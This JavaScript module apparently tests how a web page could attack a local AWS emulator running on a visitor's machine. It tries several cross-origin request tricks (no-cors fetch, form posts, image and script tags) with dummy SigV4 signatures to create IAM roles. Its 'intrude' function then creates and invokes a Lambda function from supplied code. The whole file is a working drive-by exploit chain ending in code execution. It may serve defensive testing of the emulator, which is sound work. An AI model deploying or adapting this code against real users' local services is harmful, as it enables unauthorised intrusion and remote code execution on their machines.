// What a web page could try with an emulator on the visitor's machine. Each way to send a request
// tries to create a role of its own; the last one to run code.

const POLICY = encodeURIComponent(
  JSON.stringify({
    Version: "2012-10-17",
    Statement: [
      { Effect: "Allow", Principal: { Service: "lambda.amazonaws.com" }, Action: "sts:AssumeRole" },
    ],
  }),
);
const date = new Date().toISOString().replace(/[-:]|[.]\d+/g, "");
const scope = (service) => `test/${date.slice(0, 8)}/us-east-1/${service}/aws4_request`;

/** The key that everybody knows, in a query: such a request needs no preflight. */
const signed = (service) =>
  `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${scope(service)}&X-Amz-Date=${date}` +
  "&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=00";
const creation = (role) =>
  `Action=CreateRole&Version=2010-05-08&RoleName=${role}&AssumeRolePolicyDocument=${POLICY}`;

const send = (url, init) => fetch(url, init).then(() => true, () => false);
/** An element, also where the page is XML: what the emulator answers with is. */
const make = (name, properties) =>
  Object.assign(document.createElementNS("http://www.w3.org/1999/xhtml", name), properties);
const loaded = (element) =>
  new Promise((done) => {
    element.onload = element.onerror = () => done(true);
    document.documentElement.append(element);
  });

const WAYS = {
  simple: (base, role) =>
    send(`${base}/?${signed("iam")}`, {
      method: "POST",
      mode: "no-cors",
      body: new URLSearchParams(creation(role)),
    }),
  unsigned: (base, role) =>
    send(`${base}/`, { method: "POST", mode: "no-cors", body: new URLSearchParams(creation(role)) }),
  preflighted: (base, role) =>
    send(`${base}/`, {
      method: "POST",
      headers: {
        Authorization:
          `AWS4-HMAC-SHA256 Credential=${scope("iam")}, SignedHeaders=host;x-amz-date, Signature=00`,
        "X-Amz-Date": date,
        "Content-Type": "application/x-www-form-urlencoded",
      },
      body: creation(role),
    }),
  form: (base, role) => {
    const frame = make("iframe", { name: "answer" });
    const form = make("form", {
      action: `${base}/?${signed("iam")}`,
      method: "POST",
      target: "answer",
    });
    for (const [name, value] of new URLSearchParams(creation(role)))
      form.append(make("input", { name, value }));
    document.documentElement.append(frame, form);
    return new Promise((done) => {
      frame.onload = done;
      form.submit();
    });
  },
  image: (base, role) =>
    loaded(make("img", { src: `${base}/?${creation(role)}&${signed("iam")}` })),
  script: (base, role) =>
    loaded(make("script", { src: `${base}/?${creation(role)}&${signed("iam")}` })),
};

/** Try every way; `code` is a function's zip in base64, which is created and invoked. */
export async function intrude(base, name, code) {
  for (const [way, attempt] of Object.entries(WAYS)) await attempt(base, `${name}-${way}`);
  const functions = `${base}/2015-03-31/functions`;
  await send(`${functions}?${signed("lambda")}`, {
    method: "POST",
    mode: "no-cors",
    body: JSON.stringify({
      FunctionName: name,
      Runtime: "python3.13",
      Role: `arn:aws:iam::000000000000:role/${name}-simple`,
      Handler: "intruder.handler",
      Code: { ZipFile: code },
    }),
  });
  await send(`${functions}/${name}/invocations?${signed("lambda")}`, {
    method: "POST",
    mode: "no-cors",
    body: "{}",
  });
  return Object.keys(WAYS);
}
